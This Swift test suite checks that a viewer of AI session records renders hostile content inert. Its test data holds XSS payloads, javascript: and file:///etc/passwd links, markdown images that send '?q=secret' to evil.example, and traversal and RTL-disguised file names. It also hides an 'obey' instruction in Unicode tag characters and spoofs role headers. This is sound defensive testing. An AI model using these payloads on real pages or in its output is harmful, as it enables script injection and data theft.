import Foundation
import Keepsake
import Testing

@testable import KeepsakeViewer

/// Hostile sessions. The page must say what they say, and do nothing of what they want.
@Suite("Attacks on a page")
struct AttackTests {
  private static let svg =
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script><foreignObject><iframe src=\"https://evil.example\"/></foreignObject></svg>"
  private static let html =
    "<!DOCTYPE html><meta http-equiv=refresh content=0><script>alert(1)</script><form action=https://evil.example></form>"

  @Test(arguments: [svg, html, "<?xml version=\"1.0\"?><x/>", "%PDF-1.7\n%%EOF"])
  func `A1, A2, A5: SVG, HTML, XML and PDF are handed over, and never shown`(content: String)
    async throws
  {
    try await withSession { session, _ in
      try await session.append(.prompt("look"))
      try await session.give(Array(content.utf8), name: "a.svg", to: 0)
      let page = try await session.page()
      #expect(page.dangers.isEmpty)
      #expect(page.all("img").isEmpty)
      let link = try #require(page.first("a", class: "save"))
      let data = try #require(link["href"]?.split(separator: ",").last)
      #expect(Data(base64Encoded: String(data)) == Data(content.utf8))
      #expect(!page.text.contains("alert(1)"))
    }
  }

  @Test(arguments: [
    "image/png", "application/octet-stream", "text/plain", "", "text/html;charset=utf-7", "x/y",
    "multipart/x-mixed-replace", "text/xsl", "application/xhtml+xml", "image/svg+xml",
    "image/png\"><script>",
  ])
  func `A3: HTML is a file whatever it is declared to be`(type: String) async throws {
    try await withSession { session, _ in
      try await session.append(.prompt("look"))
      try await session.give(Array(Self.html.utf8), type: MediaType(type), to: 0)
      let page = try await session.page()
      #expect(page.dangers.isEmpty)
      #expect(page.all("img").isEmpty && page.all("a", class: "save").count == 1)
    }
  }

  @Test(arguments: [
    ("GIF89a\u{1}\u{0}\u{1}\u{0}/*<script>*/=1;alert(1)</script>", "text/html", false),
    ("GIF89a\u{1}\u{0}\u{1}\u{0}/*<script>*/=1;alert(1)</script>", "image/svg+xml", false),
    ("GIF89a\u{1}\u{0}\u{1}\u{0}/*<script>*/=1;alert(1)</script>", "image/gif", true),
    ("%PDF-1.4 GIF89a", "image/gif", false),
  ])
  func
    `A4: of two types at once the bytes' own counts, and only where what is declared is of its kind`(
      content: String, type: String, isShown: Bool
    ) async throws
  {
    try await withSession { session, _ in
      try await session.append(.prompt("look"))
      try await session.give(Array(content.utf8), type: MediaType(type), to: 0)
      let page = try await session.page()
      #expect(page.dangers.isEmpty)
      #expect(page.all("img").count == (isShown ? 1 : 0))
    }
  }

  @Test(arguments: [
    "<img src=x onerror=alert(1)>", "a <b onclick=alert(1)>b</b>", "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<!-- --><script>alert(1)</script>", "<style>*{background:url(https://evil.example)}</style>",
    "`` ` `` <script> ```", "&lt;script&gt;alert(1)&lt;/script&gt;", "<script", "</article></main>",
    "<a\u{0}href=x>", "[a]: <javascript:alert(1)> \"<b>\"\n\n[a]",
  ])
  func `A6: raw HTML is text`(text: String) async throws {
    let page = try await page(saying: text)
    #expect(page.dangers.isEmpty)
    #expect(page.all("article").count == 1)
  }

  @Test(arguments: [
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x",
    "JaVa&#115;cript:alert(1)", "java&Tab;script:alert(1)", "&#1;javascript:alert(1)",
    "file:///etc/passwd", "//evil.example", "/etc/passwd", "blob:x", "ftp://a", "?q", "https:",
    "https://a\u{202E}b/c d",
  ])
  func `A6: a link leads to the web, to a mailbox, or nowhere`(destination: String) async throws {
    for text in ["[x](<\(destination)>)", "![x](<\(destination)>)", "<\(destination)>"] {
      let page = try await page(saying: text)
      #expect(page.dangers.isEmpty)
      for href in page.all("a").compactMap({ $0["href"] }) where !href.hasPrefix("#") {
        #expect(href.hasPrefix("https://"), "\(href)")
      }
    }
  }

  @Test func `A6: a good link says where it leads, and keeps it to itself from where`() async throws
  {
    let page = try await page(
      saying:
        "[x](HTTPS://Example.org/ä\"?a=1&b=%20) <mailto:a@b.c> https://a.b/c_(d). (https://e.f)")
    let links = page.all("a").filter { $0["rel"] != nil }
    #expect(
      links.map { $0["href"] } == [
        "https://Example.org/%C3%A4%22?a=1&b=%20", "mailto:a@b.c", "https://a.b/c_(d)",
        "https://e.f",
      ])
    #expect(links.allSatisfy { $0["title"] == $0["href"] && $0["referrerpolicy"] == "no-referrer" })
    #expect(page.dangers.isEmpty)
  }

  @Test(arguments: [
    ("[https://bank.example](https://evil.example/bank.example)", "evil.example"),
    ("[www.bank.example/a](https://www.bank.example@evil.example)", "evil.example"),
    ("[bank.example](https://bank.example.evil.example)", "bank.example.evil.example"),
    ("[bank.example](https://www.bank.example/a)", nil), ("[read this.](https://a.example)", nil),
    ("[Version 1.2](https://a.example)", nil), ("<https://a.example>", nil),
  ])
  func `A6: a link whose text names another place says where it leads`(text: String, host: String?)
    async throws
  {
    let page = try await page(saying: text)
    #expect(page.dangers.isEmpty)
    #expect(page.first("bdi", class: "host")?.text == host)
  }

  @Test(arguments: [
    "![](https://evil.example/?q=secret)", "[![x](https://evil.example/?q=secret)](https://a.b)",
    "![x][1]\n\n[1]: https://evil.example/?q=secret", "![](file:///x?q=secret)",
  ])
  func `A7: no image is asked for outside, and where it is said to be is shown`(text: String)
    async throws
  {
    let page = try await page(saying: text)
    #expect(page.dangers.isEmpty)
    #expect(page.all("img").isEmpty)
    #expect(page.first("code", class: "reference")?.text.hasSuffix("?q=secret") == true)
  }

  @Test func `A7: the policy allows what the page holds itself, and no more`() async throws {
    let page = try await page(saying: "hello")
    let meta = page.all("meta").first { $0["http-equiv"] == "Content-Security-Policy" }
    let policy = try #require(meta?["content"])
    let style = try #require(page.first("style")?.text)
    let script = try #require(page.first("script")?.text)
    #expect(policy == PageFrame.policy(style: Array(style.utf8), script: Array(script.utf8)))
    #expect(
      policy.hasPrefix("default-src 'none'; img-src data:; media-src data:; style-src 'sha256-"))
    #expect(policy.hasSuffix("base-uri 'none'; form-action 'none'"))
    #expect(policy.contains("; script-src 'sha256-") && !policy.contains("unsafe"))
    #expect(page.all("script").count == 1 && page.all("style").count == 1)
    // It must stand before anything that it is about.
    let names = page.elements.map(\.name)
    #expect(names.prefix(4) == ["html", "head", "meta", "meta"])
    #expect(!style.contains("url(") && !style.contains("@import"))
  }

  @Test(arguments: [
    "\"><script>alert(1)</script>", "{{7*7}}", "</script><script>", "a\u{2028}b", "' onx='",
    "</title><script>alert(1)</script>", "<!--", "]]>",
  ])
  func `A8: names and errors are text wherever they stand`(name: String) async throws {
    try await withSession(title: name) { session, _ in
      try await session.tag([name])
      var prompt = Entry.prompt(name)
      prompt.author = name
      prompt.tags = [name]
      prompt.lane = name
      let call = Entry.ToolCall(id: "c", tool: name, arguments: "{\"\(name)\": 1}")
      var response = Entry(
        .response,
        segments: [
          .structure(.object([(name, .string(name))]), schema: name),
          .opaque(.string(name), type: name),
        ])
      response.model = name
      try await session.append([prompt, .toolCalls([call])])
      try await session.attach(
        .init(
          .bytes(Picture.png), mediaType: MediaType(name), fileName: name,
          label: name.replacingOccurrences(of: "\u{2028}", with: ""), caption: name,
          madeBy: .toolCall(call)))
      var missing = Entry.NewAttachment.awaited(.missing, reference: name, madeBy: .toolCall(call))
      missing.fileName = name
      try await session.attach(missing)
      try await session.append([.toolOutput(for: call, text: name), response])
      let page = try await session.page(.init(generator: name))
      #expect(page.dangers.isEmpty)
      #expect(page.all("article").count == 3)
    }
  }

  @Test func `A9: a text that looks like the page's own stays in the box of who said it`()
    async throws
  {
    let page = try await page(
      saying: "<header><h3><span class=\"role\">Instructions</span></h3></header>\n\n# Prompt")
    #expect(page.all("span", class: "role").map(\.text) == ["Response"])
    let box = try #require(page.first("div", class: "said"))
    #expect(box.text.contains("Instructions") && box.path.last == "article")
    // A heading of the text stands below the entry's own.
    #expect(page.all("h3").count == 1)
    #expect(page.first("h4", class: "h1")?.text == "Prompt")
  }

  @Test func `A10, A11: there is nothing active, and no frame, worker or blob`() async throws {
    let page = try await page(saying: "<iframe src=blob:x></iframe><object data=x></object>")
    #expect(page.dangers.isEmpty)
    #expect(page.all("script").count == 1 && !page.text.contains("<iframe"))
  }

  @Test func `A12: what is long is folded, and what is longer than a page stays in the store`()
    async throws
  {
    let lines = String(repeating: "a line of text\n", count: 100_000)
    let page = try await page(saying: lines)
    #expect(page.dangers.isEmpty)
    #expect(page.text.utf8.count < 1_300_000)
    let fold = try #require(page.first("details"))
    #expect(fold.text.hasPrefix("Show the rest"))
    #expect(fold.text.contains("are in the store"))
    let seen =
      page.all("div", class: "said").map(\.text.utf8.count).reduce(0, +)
      - page.all("details").map(\.text.utf8.count).reduce(0, +)
    #expect(seen < 10_000)
  }

  @Test(arguments: [
    String(repeating: ">", count: 10_000), String(repeating: "- ", count: 5000) + "x",
    String(repeating: "1. ", count: 5000) + "x", String(repeating: "[", count: 20_000),
    String(repeating: "![[]()", count: 3000), String(repeating: "*a **b ", count: 2000),
    String(repeating: "((((", count: 5000),
    (0..<200).map { String(repeating: " ", count: $0 * 2) + "- a\n" }.joined(),
    String(repeating: "|a", count: 1000) + "\n" + String(repeating: "|-", count: 1000) + "\n"
      + String(repeating: "|a\n", count: 4000),
    String(repeating: "a", count: 8 << 20),
    (1...250).map { String(repeating: "`", count: $0) }.joined(separator: " "),
  ])
  func `A12: what nests or repeats without end is bounded before anything reads it`(text: String)
    async throws
  {
    let page = try await page(saying: text)
    #expect(page.dangers.isEmpty)
    #expect(page.elements.map(\.path.count).max() ?? 0 < 64)
    #expect(page.elements.count < 50_000)
    #expect(page.text.utf8.count < 1_500_000)
  }

  @Test func `A13: what turns or hides text is shown by its number`() async throws {
    let marks = String(repeating: "\u{301}", count: 1000)
    let tags = String(
      String.UnicodeScalarView("obey".unicodeScalars.compactMap { .init($0.value + 0xE0000) }))
    let page = try await page(
      saying: "photo\u{202E}gnp.exe a\u{200B}b \u{1B}[2J z\(marks)! x\(tags) 👩‍👧 سلام‌ها ✌️")
    let badges = page.all("span", class: "hidden-character").map(\.text)
    #expect(badges == ["U+202E", "U+200B", "U+001B", "+992 marks", "hidden text: obey"])
    for hidden in ["\u{202E}", "\u{200B}", "\u{1B}", "\u{E006F}"] {
      #expect(!page.text.unicodeScalars.contains { String($0) == hidden })
    }
    // What joins the parts of a letter or of an emoji is no disguise.
    #expect(page.text.contains("👩‍👧") && page.text.contains("سلام‌ها") && page.text.contains("✌️"))
  }

  @Test(arguments: [
    "photo\u{202E}gnp.exe", "../../etc/passwd", "a\u{0}b.png", "\"; x.png", "CON.png", ".hidden",
    "-rf.png", String(repeating: "n", count: 300) + ".svg", "a\r\nb.txt", "",
  ])
  func `A13: a file is saved under a name that is what it looks like`(name: String) async throws {
    try await withSession { session, _ in
      try await session.append(.prompt("look"))
      try await session.give(Array("a,b\n1,2\n".utf8), name: name, to: 0)
      let page = try await session.page()
      #expect(page.dangers.isEmpty)
      let saved = try #require(page.first("a", class: "save")?["download"])
      #expect(!saved.isEmpty && saved.utf8.count < 150 && !saved.hasPrefix("."))
      #expect(!saved.hasPrefix("-") && !saved.contains("/") && !saved.hasPrefix("CON."))
      #expect(saved.unicodeScalars.allSatisfy { $0.value >= 0x20 && $0.value != 0x202E })
    }
  }

  @Test(arguments: [
    (UInt32(30_000), UInt32(30_000)), (20_000, 10), (9_000, 9_000), (2_147_483_647, 2_147_483_647),
  ])
  func `A14: an image of too many pixels is not drawn, only saved`(width: UInt32, height: UInt32)
    async throws
  {
    try await withSession { session, _ in
      try await session.append(.prompt("look"))
      try await session.give(Picture.png(width: width, height: height), to: 0)
      let page = try await session.page()
      #expect(page.all("img").isEmpty)
      #expect(page.first("span", class: "note")?.text.contains("too many pixels") == true)
      #expect(page.dangers.isEmpty)
    }
  }

  @Test(arguments: [
    ("RIFF\u{7F}\u{7F}\u{7F}\u{7F}WAVEfmt ", "audio/wav", "audio"),
    ("WEBVTT\n\n00:00.000 --> 00:01.000\n<script>alert(1)</script>", "text/vtt", "save"),
  ])
  func `A15: sound is played by the browser's own controls and on demand; captions are files`(
    content: String, type: String, shown: String
  ) async throws {
    try await withSession { session, _ in
      try await session.append(.prompt("listen"))
      try await session.give(Array(content.utf8), type: MediaType(type), to: 0)
      let page = try await session.page()
      #expect(page.dangers.isEmpty)
      #expect(page.all("audio").allSatisfy { $0["preload"] == "none" && $0["controls"] != nil })
      #expect(page.all("audio").count == (shown == "audio" ? 1 : 0))
      #expect(page.all("a", class: "save").count == (shown == "save" ? 1 : 0))
    }
  }

  @Test func `A16: what an image says of itself is in its bytes, and nowhere on the page`()
    async throws
  {
    try await withSession { session, _ in
      try await session.append(.prompt("look"))
      let text = "tEXtComment\u{0}<script>alert(1)</script>"
      try await session.give(Picture.png + Array(text.utf8), to: 0)
      let page = try await session.page()
      #expect(page.all("img").count == 1)
      #expect(page.dangers.isEmpty)
      #expect(!page.text.contains("Comment"))
    }
  }
}
